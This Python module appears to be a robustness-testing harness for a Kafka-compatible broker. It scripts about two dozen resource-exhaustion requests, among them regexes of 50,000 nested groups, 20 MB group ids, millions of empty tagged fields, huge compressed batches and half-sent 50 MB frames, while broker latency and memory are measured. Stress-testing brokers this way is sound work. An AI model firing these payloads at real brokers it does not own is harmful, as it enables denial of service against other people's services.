"""Well-formed requests that are as expensive as possible for a broker.

Each attack has two steps: a preparation and the attack itself. The requests go over sockets to any Kafka broker. An
attack leaves its connections open and its replies in `Target.answers`. During the attack, `measurement.py` measures the
waits of another client and the broker's memory.
"""

from __future__ import annotations

import time
import uuid
from collections.abc import Callable, Mapping
from types import MappingProxyType
from typing import Any, NamedTuple

from support.brokers import unique
from target import Target, encoded

from odradek.batches.compression import ZSTD
from odradek.batches.encode import encode_batch, seal_records
from odradek.core.effects import SimpleRecord
from odradek.core.varints import uvarint, varint
from odradek.wire import frames
from odradek.wire.api_keys import (
    API_VERSIONS,
    CONSUMER_GROUP_DESCRIBE,
    CONSUMER_GROUP_HEARTBEAT,
    CREATE_TOPICS,
    DELETE_TOPICS,
    DESCRIBE_GROUPS,
    END_TXN,
    FETCH,
    FIND_COORDINATOR,
    INIT_PRODUCER_ID,
    JOIN_GROUP,
    LIST_OFFSETS,
    METADATA,
    OFFSET_COMMIT,
    OFFSET_FETCH,
    PRODUCE,
    SYNC_GROUP,
)

DESCRIBE_CONFIGS, ALTER_CONFIGS, ALTER_QUOTAS, DESCRIBE_PRODUCERS = 32, 44, 49, 61
TOPIC, BROKER, GROUP = 2, 4, 32
LONGEST = 32_767

Step = Callable[[Target], Any]


class Attack(NamedTuple):
    """One row of the table in docs/limits.md. ``perform`` gets the result of ``prepare``."""

    row: str
    title: str
    perform: Callable[[Target, Any], None]
    prepare: Step = lambda target: None
    settings: Mapping[str, str] = MappingProxyType({})
    files: int | None = None
    """The limit of the broker's open files, for an attack on file descriptors."""


# --- requests that the attacks share ----------------------------------------------------------------------------


def new_topic(name: str, partitions: int = 1, **configs: str) -> dict[str, Any]:
    rows = [{"name": key.replace("_", "."), "value": value} for key, value in configs.items()]
    return {"name": name, "num_partitions": partitions, "replication_factor": 1, "assignments": [], "configs": rows}


def create_topics(*topics: dict[str, Any]) -> dict[str, Any]:
    return {"topics": topics, "timeout": 60_000, "validate_only": False}


def created(target: Target, partitions: int, topics: int = 1) -> list[str]:
    """Creates topics and waits for their leaders. Returns their names."""
    names = [unique("attacked") for _ in range(topics)]
    for start in range(0, topics, 500):
        target.quietly(CREATE_TOPICS, 7, create_topics(*(new_topic(n, partitions) for n in names[start : start + 500])))
    wanted = [{"topic_id": None, "name": name} for name in names]
    message = metadata(wanted, create=False)
    until(target, METADATA, 12, message, lambda reply: all(_is_led(topic, partitions) for topic in reply.topics))
    return names


def _is_led(topic: Any, partitions: int) -> bool:
    return len(topic.partitions) == partitions and all(partition.leader_id >= 0 for partition in topic.partitions)


def until(target: Target, api_key: int, version: int, message: Any, ready: Callable[[Any], bool]) -> Any:
    deadline = time.monotonic() + 120
    while not ready(reply := target.quietly(api_key, version, message)):
        assert time.monotonic() < deadline, reply
        time.sleep(0.1)
    return reply


def metadata(topics: list[dict[str, Any]], *, create: bool) -> dict[str, Any]:
    flags = {"include_topic_authorized_operations": False, "include_cluster_authorized_operations": False}
    return {"topics": topics, "allow_auto_topic_creation": create, **flags}


def fetch(topic: str, partitions: range, *, max_wait_ms: int = 0, epoch: int = -1) -> dict[str, Any]:
    rows = [
        {"partition": number, "current_leader_epoch": -1, "fetch_offset": 0, "last_fetched_epoch": -1,
         "log_start_offset": -1, "partition_max_bytes": 1 << 20}
        for number in partitions
    ]  # fmt: skip
    return {"replica_id": -1, "max_wait": max_wait_ms, "min_bytes": 1, "max_bytes": 50 << 20, "isolation_level": 0,
            "session_id": 0, "session_epoch": epoch, "topics": [{"topic": topic, "partitions": rows}],
            "forgotten_topics_data": [], "rack_id": ""}  # fmt: skip


def produce(topic: str, data: bytes) -> dict[str, Any]:
    rows = [{"name": topic, "partition_data": [{"index": 0, "records": data}]}]
    return {"transactional_id": None, "acks": -1, "timeout": 60_000, "topic_data": rows}


def commit(group: str, topic: str, partitions: range = range(1), note: str | None = None) -> dict[str, Any]:
    rows = [
        {"partition_index": number, "committed_offset": 5, "committed_leader_epoch": -1, "committed_metadata": note}
        for number in partitions
    ]
    return {"group_id": group, "generation_id_or_member_epoch": -1, "member_id": "", "group_instance_id": None,
            "retention_time": -1, "topics": [{"name": topic, "partitions": rows}]}  # fmt: skip


def committed(target: Target, group: str, topic: str, partitions: range = range(1), note: str | None = None) -> None:
    """Waits for the group's coordinator and commits offsets."""
    target.quietly(FIND_COORDINATOR, 4, {"key_type": 0, "coordinator_keys": [group]})
    message = commit(group, topic, partitions, note)
    until(target, OFFSET_COMMIT, 8, message, lambda reply: reply.topics[0].partitions[0].error_code == 0)


def dense_batch(count: int, now_ms: int) -> bytes:
    """One batch of small records without a value. Neighbours differ in shape, and the last record has the newest
    timestamp.

    All records have the offset delta 0, so that they compress well. Apache Kafka refuses a compressed batch with such
    deltas.
    """
    pair = bytes((12, 0, 0, 0, 1, 1, 0)) + bytes((14, 0, 0, 0, 2, 0, 1, 0))
    last = bytes((12, 0, 2, 0, 1, 1, 0))
    return seal_records(pair * (count // 2) + last, count // 2 * 2 + 1, (now_ms, now_ms + 1), ZSTD)


# --- the attacks ------------------------------------------------------------------------------------------------


def _coordinator(target: Target) -> str:
    """Waits until groups of any name can be served. Returns a topic."""
    topic = _one_topic(target)
    committed(target, unique("first"), topic)
    return topic


def nested_groups(target: Target, _: Any) -> None:
    for depth in (5_000, 16_000, 50_000):
        message = {
            "group_id": unique("nested"), "member_id": str(uuid.uuid4()), "member_epoch": 0, "instance_id": None,
            "rack_id": None, "rebalance_timeout": 10_000, "subscribed_topic_names": None,
            "subscribed_topic_regex": "(" * depth + "a" + ")" * depth, "server_assignor": None, "topic_partitions": [],
        }  # fmt: skip
        target.ask(CONSUMER_GROUP_HEARTBEAT, 1, message)


def unknown_topics(target: Target, _: Any) -> None:
    tag = unique("unknown")
    target.ask(METADATA, 12, metadata([{"topic_id": None, "name": f"{tag}-{n}"} for n in range(3000)], create=True))


def many_partitions(target: Target, _: Any) -> None:
    target.ask(CREATE_TOPICS, 7, create_topics(new_topic(unique("wide"), 5000)))


def more_partitions_than_kafka_takes(target: Target, _: Any) -> None:
    target.ask(CREATE_TOPICS, 7, create_topics(*(new_topic(unique("wide"), 6000) for _ in range(2))))


def _one_topic(target: Target) -> str:
    return created(target, 1)[0]


def dense_batches(target: Target, topic: str) -> None:
    now_ms = int(time.time() * 1000)
    for count in (3_000_000, 12_000_000):
        target.ask(PRODUCE, 9, produce(topic, dense_batch(count, now_ms)))


def numbered_batch(count: int, now_ms: int) -> bytes:
    """One batch of empty records with correct offset deltas. The last record has the newest timestamp."""
    bodies = [b"\0\0" + varint(number) + b"\1\1\0" for number in range(count - 1)]
    bodies.append(b"\0\2" + varint(count - 1) + b"\1\1\0")
    packed = b"".join([bytes([len(body) << 1]) + body for body in bodies])
    return seal_records(packed, count, (now_ms, now_ms + 1), ZSTD)


def numbered_batches(target: Target, topic: str) -> None:
    now_ms = int(time.time() * 1000)
    for _ in range(3):
        target.ask(PRODUCE, 9, produce(topic, numbered_batch(1_000_000, now_ms)))


def _topic_with_dense_batch(target: Target) -> tuple[str, int]:
    """Stores the densest batch that the broker accepts."""
    topic, now_ms = _one_topic(target), int(time.time() * 1000)
    for data in (dense_batch(12_000_000, now_ms), numbered_batch(1_000_000, now_ms)):
        reply = target.quietly(PRODUCE, 9, produce(topic, data))
        if reply is not None and reply.responses[0].partition_responses[0].error_code == 0:
            break
    return topic, now_ms


def search_by_time(target: Target, prepared: tuple[str, int]) -> None:
    topic, now_ms = prepared
    row = {"partition_index": 0, "current_leader_epoch": -1, "timestamp": now_ms + 1}
    for _ in range(3):
        topics = [{"name": topic, "partitions": [row]}]
        target.ask(LIST_OFFSETS, 7, {"replica_id": -1, "isolation_level": 0, "topics": topics})


def wide_commits(target: Target, topic: str) -> None:
    peer = target.connect()
    group = unique("wide")
    for size in range(200_000, 199_990, -1):
        peer.send(OFFSET_COMMIT, 8, commit(group, topic, range(size)))
        if peer.receive(OFFSET_COMMIT, 8) is None:
            peer = target.connect()


def wide_fetch_sessions(target: Target, _: Any) -> None:
    peer = target.connect()
    for _ in range(10):
        peer.send(FETCH, 12, fetch("nowhere", range(100_000), epoch=0))
        if peer.receive(FETCH, 12) is None:
            peer = target.connect()


def _group_with_large_member(target: Target) -> str:
    group = unique("large")
    until(target, FIND_COORDINATOR, 4, {"key_type": 0, "coordinator_keys": [group]},
           lambda reply: reply.coordinators[0].error_code == 0)  # fmt: skip
    message = {"group_id": group, "session_timeout": 300_000, "rebalance_timeout": 1000, "member_id": "",
               "group_instance_id": None, "protocol_type": "consumer",
               "protocols": [{"name": "range", "metadata": bytes(250_000)}], "reason": None}  # fmt: skip
    reply = until(target, JOIN_GROUP, 9, message, lambda reply: reply.member_id)
    joined = target.quietly(JOIN_GROUP, 9, message | {"member_id": reply.member_id})
    target.quietly(SYNC_GROUP, 5, {
        "group_id": group, "generation_id": joined.generation_id, "member_id": joined.member_id,
        "group_instance_id": None, "protocol_type": "consumer", "protocol_name": "range",
        "assignments": [{"member_id": joined.member_id, "assignment": bytes(250_000)}],
    })  # fmt: skip
    return group


def one_group_described_often(target: Target, group: str) -> None:
    target.ask(DESCRIBE_GROUPS, 5, {"groups": [group] * 300, "include_authorized_operations": False})


def one_topic_described_often(target: Target, topic: str) -> None:
    row = {"resource_type": TOPIC, "resource_name": topic, "configuration_keys": None}
    flags = {"include_synonyms": True, "include_documentation": True}
    target.ask(DESCRIBE_CONFIGS, 4, {"resources": [row] * 500, **flags})


def one_broker_described_often(target: Target, _: Any) -> None:
    reply = target.quietly(METADATA, 12, metadata([], create=False))
    row = {"resource_type": BROKER, "resource_name": str(reply.brokers[0].node_id), "configuration_keys": None}
    flags = {"include_synonyms": True, "include_documentation": True}
    target.ask(DESCRIBE_CONFIGS, 4, {"resources": [row] * 500, **flags})


def _group_with_commits(target: Target) -> tuple[str, str]:
    topic, group = created(target, 1000)[0], unique("committed")
    committed(target, group, topic, range(1000), "m" * 300)
    return group, topic


def one_group_fetched_often(target: Target, prepared: tuple[str, str]) -> None:
    row = {"group_id": prepared[0], "member_id": None, "member_epoch": -1, "topics": None}
    target.ask(OFFSET_FETCH, 8, {"groups": [row] * 600, "require_stable": False})


def one_topic_of_producers_often(target: Target, prepared: tuple[str, str]) -> None:
    row = {"name": prepared[1], "partition_indexes": list(range(400))}
    target.ask(DESCRIBE_PRODUCERS, 0, {"topics": [row] * 600})


def one_consumer_group_described_often(target: Target, _: Any) -> None:
    group, names = unique("consumer"), [f"{'t' * 200}-{n}" for n in range(2000)]
    message = {
        "group_id": group, "member_id": str(uuid.uuid4()), "member_epoch": 0, "instance_id": None, "rack_id": None,
        "rebalance_timeout": 300_000, "subscribed_topic_names": names, "subscribed_topic_regex": None,
        "server_assignor": None, "topic_partitions": [],
    }  # fmt: skip
    until(target, CONSUMER_GROUP_HEARTBEAT, 1, message, lambda reply: reply.error_code == 0)
    flags = {"include_authorized_operations": False}
    target.ask(CONSUMER_GROUP_DESCRIBE, 1, {"group_ids": [group] * 300, **flags})


def long_names(target: Target, topic: str) -> None:
    for length in (LONGEST + 1, 65_535, 20_000_000):
        target.ask(OFFSET_COMMIT, 9, commit("g" * length, topic))


def empty_tags(target: Target, _: Any) -> None:
    count = 5_000_000
    head = frames.encode_request(API_VERSIONS, 3, 1, "attack", b"")[4:-1]
    body = encoded(API_VERSIONS, 3, {"client_software_name": "a", "client_software_version": "1"})
    for packed in (
        frames.frame(head, uvarint(count), bytes(2 * count), body),
        frames.frame(head, b"\0", body[:-1], uvarint(count), bytes(2 * count)),
    ):
        peer = target.connect()
        peer.send_raw(packed)
        peer.receive(API_VERSIONS, 3)


def _wide_topic(target: Target) -> str:
    return created(target, 1000)[0]


def parked_fetches(target: Target, topic: str) -> None:
    peer = target.connect()
    message = encoded(FETCH, 12, fetch(topic, range(1000), max_wait_ms=20_000))
    rest = peer.send_raw(b"".join(peer.packed(FETCH, 12, message) for _ in range(1000)), within_s=10)
    target.quietly(PRODUCE, 9, produce(topic, dense_batch(1, int(time.time() * 1000))))
    peer.send_raw(rest)
    for _ in range(1000):
        if peer.frame() is None:
            break


def _default_quota(target: Target) -> None:
    """A limit that throttles no client, so that the broker measures each client."""
    for key in ("request_percentage", "producer_byte_rate"):
        entity = [{"entity_type": "client-id", "entity_name": None}]
        ops = [{"key": key, "value": 1e9, "remove": False}]
        target.quietly(ALTER_QUOTAS, 1, {"entries": [{"entity": entity, "ops": ops}], "validate_only": False})


def many_clients(target: Target, _: Any) -> None:
    peer, tag = target.connect(), unique("client")
    for start in range(0, 10_000, 500):
        requests = [peer.packed(API_VERSIONS, 0, {}, client_id=f"{tag}-{start + n}") for n in range(500)]
        peer.send_raw(b"".join(requests))
        for _ in requests:
            if peer.frame() is None:
                return


def misspelt_topics(target: Target, _: Any) -> None:
    peer = target.connect()
    message = encoded(CREATE_TOPICS, 7, create_topics(new_topic("misspelt", retenton_ms="1")))
    peer.send_raw(b"".join(peer.packed(CREATE_TOPICS, 7, message) for _ in range(4000)))
    for _ in range(4000):
        if peer.frame() is None:
            break


def many_group_settings(target: Target, _: Any) -> None:
    tag = unique("set")
    configs = [{"name": "consumer.session.timeout.ms", "config_operation": 0, "value": "46000"}]
    rows = [{"resource_type": GROUP, "resource_name": f"{tag}-{n}", "configs": configs} for n in range(3000)]
    target.ask(ALTER_CONFIGS, 1, {"resources": rows, "validate_only": False})


def _many_topics(target: Target) -> list[str]:
    return created(target, 1, 3000)


def many_topics_deleted(target: Target, names: list[str]) -> None:
    target.ask(DELETE_TOPICS, 6, {"topics": [{"name": name, "topic_id": None} for name in names], "timeout": 60_000})


def unknown_tags(target: Target, _: Any) -> None:
    tags = b"\1\x07\3abc"
    for api_key, version, message in (
        (METADATA, 12, metadata([], create=False)),
        (API_VERSIONS, 3, {"client_software_name": "a", "client_software_version": "1"}),
        (FIND_COORDINATOR, 4, {"key_type": 0, "coordinator_keys": ["group"]}),
    ):
        target.ask(api_key, version, encoded(api_key, version, message)[:-1] + tags)


def waiting_fetch(target: Target, topic: str) -> None:
    target.patience_s = 12
    target.ask(FETCH, 12, fetch(topic, range(1), max_wait_ms=600_000))


def half_sent(target: Target, _: Any) -> None:
    for _ in range(5):
        size = 50 << 20
        target.connect().send_raw(size.to_bytes(4, "big") + bytes(size - 1), within_s=5)
    time.sleep(1)  # the broker reads the bytes that are already sent


_TRANSACTION_PARTITIONS = 5000


def _open_transaction(target: Target) -> tuple[str, str, int, int]:
    """Returns a topic of many partitions, a transactional id and its producer id and epoch."""
    (topic,) = created(target, _TRANSACTION_PARTITIONS)
    name = unique("wide")
    target.quietly(FIND_COORDINATOR, 4, {"key_type": 1, "coordinator_keys": [name]})
    message = {"transactional_id": name, "transaction_timeout": 60_000, "producer_id": -1, "producer_epoch": -1}
    reply = until(target, INIT_PRODUCER_ID, 4, message, lambda reply: reply.error_code == 0)
    return topic, name, reply.producer_id, reply.producer_epoch


def wide_transaction(target: Target, prepared: tuple[str, str, int, int]) -> None:
    topic, name, producer_id, epoch = prepared
    data = encode_batch(
        [SimpleRecord(b"k", b"v")], now_ms=int(time.time() * 1000), producer_id=producer_id, producer_epoch=epoch,
        base_sequence=0, transactional=True,
    )  # fmt: skip
    parts = [{"index": number, "records": data} for number in range(_TRANSACTION_PARTITIONS)]
    message = produce(topic, data) | {
        "transactional_id": name, "topic_data": [{"name": topic, "partition_data": parts}],
    }  # fmt: skip
    target.ask(PRODUCE, 12, message)
    identity = {"transactional_id": name, "producer_id": producer_id, "producer_epoch": epoch}
    target.ask(END_TXN, 5, identity | {"committed": True})


ATTACKS = (
    Attack("1", "patterns of 5,000, 16,000 and 50,000 nested groups", nested_groups, _coordinator),
    Attack("2", "Metadata of 3,000 unknown topics", unknown_topics),
    Attack("2b", "the same where 600 files may be open", unknown_topics, files=600),
    Attack("3", "CreateTopics of 5,000 partitions", many_partitions),
    Attack("3b", "CreateTopics of 2 × 6,000 partitions", more_partitions_than_kafka_takes),
    Attack("4", "Produce of 3 M and of 12 M records in one zstd batch", dense_batches, _one_topic),
    Attack("4a", "Produce of 3 batches of 1 M records with true offset deltas", numbered_batches, _one_topic),
    Attack("4b", "ListOffsets by time in the densest batch taken, 3 times", search_by_time, _topic_with_dense_batch),
    Attack("5", "ten commits of 199,991 to 200,000 partitions", wide_commits, _coordinator),
    Attack("6", "ten fetch sessions of 100,000 partitions", wide_fetch_sessions),
    Attack("7", "DescribeConfigs of one topic × 500", one_topic_described_often, _one_topic),
    Attack("7b", "DescribeConfigs of one broker × 500", one_broker_described_often),
    Attack("7c", "DescribeGroups of one group (500 kB) × 300", one_group_described_often, _group_with_large_member),
    Attack("7d", "OffsetFetch of one group (300 kB) × 600", one_group_fetched_often, _group_with_commits),
    Attack("7e", "DescribeProducers of 400 partitions × 600", one_topic_of_producers_often, _group_with_commits),
    Attack("7f", "ConsumerGroupDescribe of one group (400 kB) × 300", one_consumer_group_described_often, _coordinator),
    Attack("8", "group ids of 32,768, 65,535 and 20 M bytes", long_names, _coordinator),
    Attack("9", "5 M empty tagged fields, in header and body", empty_tags),
    Attack("10", "1,000 parked fetches of 1,000 partitions, then a record", parked_fetches, _wide_topic),
    Attack("11", "10,000 client ids under a default quota", many_clients, _default_quota),
    Attack("12", "4,000 pipelined CreateTopics with a misspelt setting", misspelt_topics),
    Attack("13", "settings of 3,000 groups", many_group_settings),
    Attack("13b", "DeleteTopics of 3,000 topics", many_topics_deleted, _many_topics),
    Attack("14", "unknown tagged fields in three requests", unknown_tags, _coordinator),
    Attack("15", "a fetch that waits 10 min", waiting_fetch, _one_topic, {"connections.max.idle.ms": "2000"}),
    Attack("16", "five half-sent requests of 50 MB", half_sent),
    Attack("19", "a transaction of 5,000 partitions: one Produce, then EndTxn", wide_transaction, _open_transaction),
)
BY_ROW = {attack.row: attack for attack in ATTACKS}
